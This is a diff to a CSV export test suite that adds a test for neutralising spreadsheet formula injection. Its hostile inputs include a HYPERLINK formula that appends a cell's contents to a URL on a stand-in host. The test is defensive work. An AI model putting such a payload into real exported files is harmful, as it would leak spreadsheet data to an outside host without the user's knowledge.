@@ -48,6 +48,14 @@ describe('CSV export', () => {
     expect(csvLine(['F-1', 'a,b', 'say "hi"', 'two\nlines', 'x;y', false, true, 3, null])).toBe('F-1,"a,b","say ""hi""","two\nlines","x;y",false,true,3,\n');
   });
 
+  it('makes text that a spreadsheet would run as a formula plain text, and leaves numbers alone', () => {
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Open")', '+48 600', '-2+3', '@SUM(A1)', '\t=1'];
+    const line = csvLine([...hostile, -12.5, 'ok = fine']);
+    expect(csvLine(['\r=1'])).toBe(`"'\r=1"\n`);
+    const [row] = parseCsv(`${'h,'.repeat(6)}h\n${line}`).rows.slice(1);
+    expect(row!.cells).toEqual([...hostile.map((text) => `'${text}`), '-12.5', 'ok = fine']);
+  });
+
   it('writes lines the importer reads back cell for cell', () => {
     const cell = fc.string({ unit: fc.constantFrom('a', 'ż', ' ', ',', ';', '"', '\n', '1') });
     fc.assert(
